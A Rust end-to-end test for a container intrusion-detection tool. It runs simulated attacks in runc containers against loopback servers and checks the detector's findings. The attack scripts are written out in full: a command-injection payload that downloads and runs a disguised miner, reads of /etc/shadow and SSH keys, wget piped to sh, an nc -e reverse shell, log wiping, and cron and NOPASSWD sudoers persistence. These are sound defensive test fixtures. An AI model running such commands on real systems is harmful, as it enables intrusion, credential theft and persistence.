//! End to end: the story of DETECTIONS.md in a real runc container, recorded by the real
//! `capture` and named by the real `analyze`, next to benign containers.
//!
//! The attacked container runs busybox httpd with a CGI script that passes its query to
//! `/bin/sh -c` (command injection). The test sends the injection; the shell downloads a
//! "miner" from a loopback HTTP server of the test, makes it executable and runs it; the miner
//! looks up a pool name (a loopback DNS responder, when port 53 is free) and speaks Stratum to a
//! loopback fake pool. Benign: a web server and its client, a tar/gzip batch job. All traffic
//! goes to 127.0.0.1 listeners this test starts and stops.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use needle_common::schema::Detail;
use needle_tests::binary;
use needle_tests::capture::{Capture, trace_files};
use needle_tests::runc::{CgroupStyle, Container, ContainerSpec, runc_available};
use needle_tests::{read_trace, require, require_privileges};

/// Customary Stratum ports (models/intel/mining_ports.txt); the fake pool takes the first free
/// one, so concurrent runs of this test do not collide.
const POOL_PORTS: &[u16] = &[
    14444, 14433, 45700, 45560, 3333, 3334, 3335, 3336, 5555, 5556, 7777, 7778,
];
const POOL: &str = "pool.minexmr.com";

/// Loopback servers of the test; stopped (and joined) on drop, also when the test panics.
struct Servers {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Drop for Servers {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

fn accept_loop(
    l: TcpListener,
    stop: Arc<AtomicBool>,
    mut handle: impl FnMut(TcpStream) + Send + 'static,
) -> JoinHandle<()> {
    l.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        while !stop.load(Ordering::Relaxed) {
            match l.accept() {
                Ok((s, _)) => {
                    let _ = s.set_nonblocking(false);
                    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                    handle(s);
                }
                Err(_) => std::thread::sleep(Duration::from_millis(20)),
            }
        }
    })
}

fn read_until(s: &mut TcpStream, end: &[u8]) -> Vec<u8> {
    let mut buf = Vec::new();
    let mut b = [0u8; 512];
    while !buf.windows(end.len()).any(|w| w == end) && buf.len() < 16 * 1024 {
        match s.read(&mut b) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&b[..n]),
        }
    }
    buf
}

/// A DNS answer: every A question gets 127.0.0.1.
fn dns_answer(q: &[u8]) -> Option<Vec<u8>> {
    if q.len() < 12 {
        return None;
    }
    let mut end = 12;
    while *q.get(end)? != 0 {
        end += 1 + usize::from(q[end]);
    }
    let question = q.get(12..end + 5)?;
    let mut r = vec![q[0], q[1], 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
    r.extend_from_slice(question);
    r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1]);
    Some(r)
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn connect_retry(port: u16) -> TcpStream {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match TcpStream::connect(("127.0.0.1", port)) {
            Ok(s) => return s,
            Err(e) if Instant::now() > deadline => panic!("httpd on {port} never listened: {e}"),
            Err(_) => std::thread::sleep(Duration::from_millis(100)),
        }
    }
}

fn spec(args: String, files: Vec<(String, Vec<u8>, u32)>) -> ContainerSpec {
    let mut s = ContainerSpec::new(CgroupStyle::DockerSystemd);
    s.args = vec!["/bin/sh".into(), "-c".into(), args];
    s.share_host_network = true;
    s.files = files;
    s
}

#[test]
fn command_injection_to_miner_is_named_with_its_chain_and_benign_containers_raise_nothing() {
    let name = "signatures_e2e::command_injection";
    if !require_privileges(name) || !require(name, runc_available()) {
        return;
    }
    let pool = POOL_PORTS
        .iter()
        .find_map(|&p| TcpListener::bind(("127.0.0.1", p)).ok())
        .unwrap_or_else(|| {
            panic!("no free mining port on 127.0.0.1 for the fake pool: {POOL_PORTS:?}")
        });
    let pool_port = pool.local_addr().unwrap().port();
    let web = TcpListener::bind("127.0.0.1:0").unwrap();
    let web_port = web.local_addr().unwrap().port();
    let stop = Arc::new(AtomicBool::new(false));
    let mut servers = Servers {
        stop: stop.clone(),
        threads: Vec::new(),
    };
    let miner = format!(
        "#!/bin/sh\n/bin/timeout 3 /bin/nslookup {POOL} 127.0.0.1 > /dev/null 2>&1\n\
         echo '{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"kworker/1.0\"]}}' | /bin/timeout 5 /bin/nc 127.0.0.1 {pool_port} > /dev/null\n"
    );
    servers
        .threads
        .push(accept_loop(web, stop.clone(), move |mut s| {
            read_until(&mut s, b"\r\n\r\n");
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{miner}",
                miner.len()
            );
        }));
    let stratum = Arc::new(Mutex::new(Vec::<String>::new()));
    let seen = stratum.clone();
    servers
        .threads
        .push(accept_loop(pool, stop.clone(), move |mut s| {
            let line = read_until(&mut s, b"\n");
            seen.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&line).into_owned());
            let _ = s.write_all(
                b"{\"id\":1,\"result\":[[\"mining.notify\",\"1\"],\"00\",4],\"error\":null}\n",
            );
        }));
    // DNS on 127.0.0.1:53 when nothing else holds it (the miner works either way).
    let dns_up = match UdpSocket::bind("127.0.0.1:53") {
        Ok(sock) => {
            sock.set_read_timeout(Some(Duration::from_millis(100)))
                .unwrap();
            let stop = stop.clone();
            servers.threads.push(std::thread::spawn(move || {
                let mut b = [0u8; 512];
                while !stop.load(Ordering::Relaxed) {
                    if let Ok((n, from)) = sock.recv_from(&mut b)
                        && let Some(r) = dns_answer(&b[..n])
                    {
                        let _ = sock.send_to(&r, from);
                    }
                }
            }));
            true
        }
        Err(e) => {
            eprintln!(
                "note: no DNS responder (127.0.0.1:53: {e}); the DNS findings are not asserted"
            );
            false
        }
    };

    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("traces");
    let mut cap = Capture::start(&out, &["--duration", "120s"]);

    let app_port = free_port();
    let cgi = b"#!/bin/sh\necho 'Content-Type: text/plain'\necho\nq=$(/bin/httpd -d \"$QUERY_STRING\")\n/bin/sh -c \"/bin/echo $q\"\n".to_vec();
    let attacked = Container::start(spec(
        format!("/bin/httpd -f -p 127.0.0.1:{app_port} -h /www"),
        vec![
            ("/www/index.html".into(), b"ok\n".to_vec(), 0o644),
            ("/www/cgi-bin/echo".into(), cgi, 0o755),
            (
                "/etc/resolv.conf".into(),
                b"nameserver 127.0.0.1\n".to_vec(),
                0o644,
            ),
        ],
    ))
    .expect("start the web app");
    let site_port = free_port();
    let web = Container::start(spec(
        format!("/bin/httpd -f -p 127.0.0.1:{site_port} -h /www & for i in $(/bin/seq 1 12); do /bin/sleep 1; done"),
        vec![("/www/index.html".into(), b"hello\n".to_vec(), 0o644)],
    ))
    .expect("start the web server");
    let client = Container::start(spec(
        format!("for i in $(/bin/seq 1 10); do /bin/wget -q -O /dev/null http://127.0.0.1:{site_port}/ || true; /bin/sleep 1; done; /bin/sleep 30"),
        vec![],
    ))
    .expect("start the client");
    let batch = Container::start(spec(
        "for i in $(/bin/seq 1 4); do /bin/mkdir -p /data/b; /bin/cp /etc/passwd /data/b/p$i; /bin/tar -cf /tmp/b.tar /data/b; \
         /bin/gzip -f /tmp/b.tar; /bin/sha256sum /tmp/b.tar.gz > /dev/null; /bin/sleep 1; done; /bin/sleep 30"
            .into(),
        vec![],
    ))
    .expect("start the batch job");

    // The injection: an ordinary-looking request whose parameter carries commands.
    let payload = format!(
        "hi; /bin/mkdir -p /tmp/.x; /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:{web_port}/kworker; \
         /bin/chmod +x /tmp/.x/kworker; /tmp/.x/kworker -o {POOL}:{pool_port} -u 4AbCdEf"
    );
    let mut s = connect_retry(app_port);
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    write!(
        s,
        "GET /cgi-bin/echo?{} HTTP/1.0\r\nHost: shop\r\n\r\n",
        url_encode(&payload)
    )
    .unwrap();
    let mut response = String::new();
    let _ = s.read_to_string(&mut response);
    assert!(response.contains("hi"), "the CGI answered: {response:?}");
    let deadline = Instant::now() + Duration::from_secs(15);
    while stratum.lock().unwrap().is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        stratum
            .lock()
            .unwrap()
            .iter()
            .any(|l| l.contains("mining.subscribe")),
        "the miner spoke Stratum to the fake pool"
    );
    std::thread::sleep(Duration::from_secs(10)); // benign work goes on
    cap.signal(libc::SIGINT);
    let (code, summary) = cap.wait();
    assert_eq!(code, Some(0), "{summary}");
    drop(servers);

    let o = std::process::Command::new(binary("analyze"))
        .arg(&out)
        .args(["--format", "json"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let workloads = doc["workloads"].as_array().unwrap();
    let find = |id: &str| {
        workloads
            .iter()
            .find(|w| w["workload"] == id)
            .unwrap_or_else(|| panic!("no workload {id}"))
    };
    let a = find(attacked.id());
    let types: Vec<&str> = a["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["type"].as_str())
        .collect();
    eprintln!("attack findings: {types:?}");
    let mut expected = vec![
        "Execution:Runtime/SuspiciousShellCreated",
        "Execution:Runtime/NewBinaryExecuted",
        "Impact:Runtime/CryptoMinerExecuted",
        "CryptoCurrency:Runtime/BitcoinTool.B",
    ];
    let rows: Vec<_> = trace_files(&out)
        .iter()
        .flat_map(|f| read_trace(f).unwrap().events)
        .filter(|e| {
            e.container
                .as_ref()
                .is_some_and(|c| &*c.id == attacked.id())
        })
        .collect();
    let dns_recorded = rows.iter().any(|e| matches!(e.detail, Detail::DnsQuery(_)));
    if dns_up && dns_recorded {
        expected.push("CryptoCurrency:Runtime/BitcoinTool.B!DNS");
    } else {
        eprintln!(
            "note: DNS queries not recorded by this capture build; BitcoinTool.B!DNS not asserted"
        );
    }
    for want in &expected {
        assert!(types.contains(want), "{want} missing from {types:?}");
    }
    let miner = a["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["type"] == "Impact:Runtime/CryptoMinerExecuted")
        .unwrap();
    assert_eq!(miner["process"]["exe"], "/tmp/.x/kworker", "{miner:#}");
    assert!(
        miner["process"]["ancestry"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a == "/bin/httpd"),
        "{miner:#}"
    );
    let chain: Vec<String> = miner["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            format!(
                "{} {} {}",
                e["kind"].as_str().unwrap(),
                e["exe"].as_str().unwrap_or(""),
                e["fields"]["dst_port"].as_str().unwrap_or("")
            )
        })
        .collect();
    eprintln!("chain: {chain:#?}");
    for step in [
        "exec /bin/sh",
        "exec /bin/wget",
        "connect /bin/wget",
        "exec /bin/chmod",
        "exec /tmp/.x/kworker",
        &format!("connect /bin/nc {pool_port}"),
    ] {
        assert!(
            chain.iter().any(|c| c.starts_with(step)),
            "{step} missing from the chain {chain:#?}"
        );
    }
    // With file events recorded, the write of the download and the chmod are in the chain too.
    if rows.iter().any(|e| matches!(e.detail, Detail::Open { .. })) {
        for step in ["open /bin/wget", "chmod /bin/chmod"] {
            assert!(
                chain.iter().any(|c| c.starts_with(step)),
                "{step} missing from the chain {chain:#?}"
            );
        }
    } else {
        eprintln!(
            "note: file events not recorded by this capture build; open/chmod steps not asserted"
        );
    }
    // The attacked container outranks every benign one, which carry no signature finding.
    // (The peer-outlier model compares only these four containers here; what it says about
    // them is its own business and is printed, not asserted.)
    for c in [&web, &client, &batch] {
        let w = find(c.id());
        let findings = w["findings"].as_array().unwrap();
        let named: Vec<&serde_json::Value> =
            findings.iter().filter(|f| f["rules"].is_array()).collect();
        assert!(
            named.is_empty(),
            "benign container {} got signature findings {named:#?}",
            c.id()
        );
        if !findings.is_empty() {
            eprintln!(
                "note: model finding on benign {}: {:?}",
                c.id(),
                findings.iter().map(|f| &f["type"]).collect::<Vec<_>>()
            );
        }
        assert!(a["rank"].as_u64() < w["rank"].as_u64());
    }
}

/// Signature findings of workload `id` in analyze's JSON: type → rules that fired.
fn named(doc: &serde_json::Value, id: &str) -> std::collections::BTreeMap<String, Vec<String>> {
    let w = doc["workloads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["workload"] == id)
        .unwrap_or_else(|| panic!("no workload {id}"));
    w["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rules"].is_array())
        .map(|f| {
            (
                f["type"].as_str().unwrap().to_string(),
                f["rules"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|r| r.as_str().unwrap().to_string())
                    .collect(),
            )
        })
        .collect()
}

/// The attack classes of issue 27 run for real in one container — reconnaissance, credential
/// reads, a port scan of closed loopback ports, a download piped into a shell inside a script,
/// log and history tampering, timestomping, a setuid copy, nsenter into PID 1, a masquerading
/// dropped program in a hidden directory that connects out, a shell escape through find, data
/// wiping, cron and sudoers writes. A second attacked container does what only schema v2
/// records: a reverse shell through `nc -e`, a log emptied by truncate(2), times set by
/// utimensat, a symlink to /etc/shadow. Next to them, benign look-alikes: a log rotator (rename, gzip,
/// delete old archives), a health checker probing a few ports (one closed), and a backup that
/// reads SSH keys, which the definitions do name (and nothing else).
#[test]
fn issue_27_classes_are_named_from_real_events_and_look_alikes_only_as_defined() {
    let name = "signatures_e2e::issue_27_classes";
    if !require_privileges(name) || !require(name, runc_available()) {
        return;
    }
    let web = TcpListener::bind("127.0.0.1:0").unwrap();
    let web_port = web.local_addr().unwrap().port();
    let stop = Arc::new(AtomicBool::new(false));
    let mut servers = Servers {
        stop: stop.clone(),
        threads: Vec::new(),
    };
    servers
        .threads
        .push(accept_loop(web, stop.clone(), move |mut s| {
            read_until(&mut s, b"\r\n\r\n");
            let body = "echo piped\n";
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }));
    // Three ports the health checker finds open, and one it finds closed.
    let mut open_ports = Vec::new();
    for _ in 0..3 {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        open_ports.push(l.local_addr().unwrap().port());
        servers.threads.push(accept_loop(l, stop.clone(), |mut s| {
            let _ = s.write_all(b"ok\n");
        }));
    }
    // Twenty closed ports for the scan (bound, noted, released).
    let closed: Vec<u16> = {
        let held: Vec<TcpListener> = (0..21)
            .map(|_| TcpListener::bind("127.0.0.1:0").unwrap())
            .collect();
        held.iter()
            .map(|l| l.local_addr().unwrap().port())
            .collect()
    };
    // The reverse shell's listener: it types a command and an exit into the shell that
    // connects, and keeps what the shell printed.
    let shell = TcpListener::bind("127.0.0.1:0").unwrap();
    let shell_port = shell.local_addr().unwrap().port();
    let typed_back = Arc::new(Mutex::new(Vec::new()));
    let heard = typed_back.clone();
    servers
        .threads
        .push(accept_loop(shell, stop.clone(), move |mut s| {
            let _ = s.write_all(b"echo uid-$(/bin/id -u)\nexit\n");
            let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
            let mut got = Vec::new();
            let _ = s.read_to_end(&mut got);
            heard.lock().unwrap().extend_from_slice(&got);
        }));
    let (probe_closed, scan) = closed.split_first().unwrap();
    let scan_ports: Vec<String> = scan.iter().map(u16::to_string).collect();

    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("traces");
    let mut cap = Capture::start(&out, &["--duration", "120s"]);

    let attack_script = format!(
        "/bin/sleep 2\n\
         /bin/id > /dev/null; /bin/uname -a > /dev/null; /bin/hostname > /dev/null; /bin/ifconfig > /dev/null 2>&1\n\
         /bin/cat /etc/shadow > /dev/null; /bin/cat /proc/1/environ > /dev/null; /bin/cat /root/.ssh/id_rsa > /dev/null\n\
         for p in {ports}; do /bin/nc -w 1 127.0.0.1 $p < /dev/null > /dev/null 2>&1; done\n\
         /bin/wget -q -O- http://127.0.0.1:{web_port}/s | /bin/sh\n\
         /bin/rm -f /var/log/auth.log\n\
         /bin/ln -sf /dev/null /root/.ash_history\n\
         /bin/touch -r /bin/busybox /etc/hostname\n\
         /bin/cp /bin/busybox /tmp/.s; /bin/chmod 4755 /tmp/.s\n\
         /bin/nsenter -t 1 -m /bin/true 2> /dev/null\n\
         /bin/mkdir -p /tmp/.x; printf '#!/bin/sh\\n/bin/nc -w 1 127.0.0.1 {open} < /dev/null > /dev/null\\n' > /tmp/.x/kworker\n\
         /bin/chmod +x /tmp/.x/kworker; /tmp/.x/kworker\n\
         echo exit | /bin/find /tmp -maxdepth 0 -exec /bin/sh \\;\n\
         /bin/dd if=/dev/zero of=/tmp/junk bs=1024 count=4 2> /dev/null; /bin/shred -u /tmp/junk\n\
         /bin/mkdir -p /var/spool/cron/crontabs; echo '* * * * * /tmp/.x/kworker' >> /var/spool/cron/crontabs/root\n\
         /bin/mkdir -p /etc/sudoers.d; echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n\
         /bin/sleep 30\n",
        ports = scan_ports.join(" "),
        open = open_ports[0],
    );
    let key =
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n".to_vec();
    let attacked = Container::start(spec(
        "/bin/sh /attack.sh".into(),
        vec![
            ("/attack.sh".into(), attack_script.into_bytes(), 0o644),
            (
                "/etc/shadow".into(),
                b"root:$6$Qk2w$7aa0c8b2e1f:19700:0:99999:7:::\n".to_vec(),
                0o640,
            ),
            ("/root/.ssh/id_rsa".into(), key.clone(), 0o600),
            (
                "/var/log/auth.log".into(),
                b"sshd[1]: accepted\n".to_vec(),
                0o640,
            ),
            ("/root/.ash_history".into(), b"ls\n".to_vec(), 0o600),
            ("/etc/hostname".into(), b"web\n".to_vec(), 0o644),
        ],
    ))
    .expect("start the attacked container");
    // What schema v2 records and the exec-only rules could not see: a shell whose stdio is a
    // socket (nc -e, which dup2s the connection onto fds 0 and 1 first), a log emptied with
    // truncate(2) and nothing else done to logs, times set by utimensat, a symlink to
    // /etc/shadow.
    let stdio = Container::start(spec(
        format!(
            "/bin/sleep 2; /bin/nc 127.0.0.1 {shell_port} -e /bin/sh; \
             /bin/truncate -s 0 /var/log/messages; \
             /bin/touch -r /bin/busybox /etc/motd; \
             /bin/ln -s /etc/shadow /tmp/s; /bin/sleep 30"
        ),
        vec![
            (
                "/var/log/messages".into(),
                b"kernel: booted\n".to_vec(),
                0o640,
            ),
            ("/etc/motd".into(), b"hi\n".to_vec(), 0o644),
            (
                "/etc/shadow".into(),
                b"root:*:19700:0:99999:7:::\n".to_vec(),
                0o640,
            ),
        ],
    ))
    .expect("start the stdio attacker");
    let rotator = Container::start(spec(
        "/bin/mkdir -p /var/log/app; for i in $(/bin/seq 1 6); do /bin/date >> /var/log/app/app.log; \
         /bin/mv /var/log/app/app.log /var/log/app/app.log.1; /bin/gzip -f /var/log/app/app.log.1; \
         /bin/mv /var/log/app/app.log.1.gz /var/log/app/app.log.$i.gz; /bin/rm -f /var/log/app/app.log.$((i - 2)).gz; \
         /bin/sleep 1; done; /bin/sleep 30"
            .into(),
        vec![("/var/log/app/app.log".into(), b"start\n".to_vec(), 0o644)],
    ))
    .expect("start the log rotator");
    let probes: String = open_ports
        .iter()
        .chain(std::iter::once(probe_closed))
        .map(|p| format!("/bin/nc -w 1 127.0.0.1 {p} < /dev/null > /dev/null 2>&1; "))
        .collect();
    let checker = Container::start(spec(
        format!("for i in $(/bin/seq 1 8); do {probes}/bin/sleep 1; done; /bin/sleep 30"),
        vec![],
    ))
    .expect("start the health checker");
    let backup = Container::start(spec(
        "/bin/sleep 2; /bin/tar -cf /tmp/home.tar /root; /bin/gzip -f /tmp/home.tar; /bin/sleep 30"
            .into(),
        vec![("/root/.ssh/id_rsa".into(), key, 0o600)],
    ))
    .expect("start the backup");

    std::thread::sleep(Duration::from_secs(25));
    cap.signal(libc::SIGINT);
    let (code, summary) = cap.wait();
    assert_eq!(code, Some(0), "{summary}");
    drop(servers);

    let o = std::process::Command::new(binary("analyze"))
        .arg(&out)
        .args(["--format", "json"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();

    let a = named(&doc, attacked.id());
    eprintln!("attack findings: {a:#?}");
    for (finding, rules) in [
        (
            "Discovery:Runtime/SuspiciousCommand",
            &["recon-burst", "discovery-command"][..],
        ),
        (
            "CredentialAccess:Runtime/SensitiveFileRead",
            &[
                "read-sensitive-file",
                "read-proc-environ",
                "read-ssh-keys",
                "credential-harvest",
            ],
        ),
        ("Recon:Runtime/Portscan", &["port-scan"]),
        ("Execution:Runtime/SuspiciousCommand", &["shell-escape"]),
        (
            "DefenseEvasion:Runtime/SensitiveFileModified",
            &["log-tampering", "history-tampering"],
        ),
        (
            "DefenseEvasion:Runtime/SuspiciousCommand",
            &["defense-evasion-command"],
        ),
        ("DefenseEvasion:Runtime/Timestomp", &["timestomp"]),
        (
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            &["setuid-bit-set"],
        ),
        (
            "PrivilegeEscalation:Runtime/HostNamespaceEntry",
            &["host-namespace-entry"],
        ),
        (
            "DefenseEvasion:Runtime/Masquerading",
            &["masquerade-kernel-thread"],
        ),
        (
            "DefenseEvasion:Runtime/HiddenExecutable",
            &["hidden-executable"],
        ),
        (
            "Execution:Runtime/NewBinaryExecuted",
            &["written-then-executed"],
        ),
        (
            "Backdoor:Runtime/NewBinaryConnection",
            &["new-binary-lineage-connection"],
        ),
        ("Impact:Runtime/DataDestruction", &["data-destruction"]),
        (
            "Persistence:Runtime/SensitiveFileModified",
            &["persistence-file"],
        ),
        (
            "PrivilegeEscalation:Runtime/SensitiveFileModified",
            &["privesc-file"],
        ),
    ] {
        let fired = a
            .get(finding)
            .unwrap_or_else(|| panic!("{finding} missing from {a:#?}"));
        for r in rules {
            assert!(
                fired.iter().any(|f| f == r),
                "{finding}: rule {r} did not fire ({fired:?})"
            );
        }
    }
    // curl | sh as the shell's stdin being the downloader's stdout pipe (the two rules are
    // the two start orders of the pipeline's processes; the scheduler picks which one runs —
    // `download-pipe-shell-siblings`, which needs no stdio, sees only the downloader-first
    // order, so it is not required here).
    let piped = &a["Execution:Runtime/SuspiciousCommand"];
    assert!(
        piped
            .iter()
            .any(|r| r == "download-pipe-shell-stdio"
                || r == "download-pipe-shell-stdio-reader-first"),
        "the pipe's inode did not join wget and sh: {piped:?}"
    );

    let heard = String::from_utf8_lossy(&typed_back.lock().unwrap()).into_owned();
    assert!(
        heard.contains("uid-0"),
        "the reverse shell answered: {heard:?}"
    );
    let v = named(&doc, stdio.id());
    eprintln!("stdio attacker findings: {v:#?}");
    for (finding, rule) in [
        ("Execution:Runtime/ReverseShell", "reverse-shell-stdio"),
        ("Execution:Runtime/StdioRedirectedToNetwork", "stdio-dup"),
        (
            "DefenseEvasion:Runtime/SensitiveFileModified",
            "log-tampering",
        ),
        ("DefenseEvasion:Runtime/Timestomp", "timestomp-call"),
        (
            "PrivilegeEscalation:Runtime/SensitiveFileModified",
            "sensitive-link",
        ),
    ] {
        let fired = v
            .get(finding)
            .unwrap_or_else(|| panic!("{finding} missing from {v:#?}"));
        assert!(
            fired.iter().any(|f| f == rule),
            "{finding}: rule {rule} did not fire ({fired:?})"
        );
    }
    for c in [&rotator, &checker] {
        let n = named(&doc, c.id());
        assert!(n.is_empty(), "benign {}: {n:#?}", c.id());
    }
    let b = named(&doc, backup.id());
    assert_eq!(
        b.keys().collect::<Vec<_>>(),
        ["CredentialAccess:Runtime/SensitiveFileRead"],
        "the backup reads SSH keys, and that is all it does: {b:#?}"
    );
}
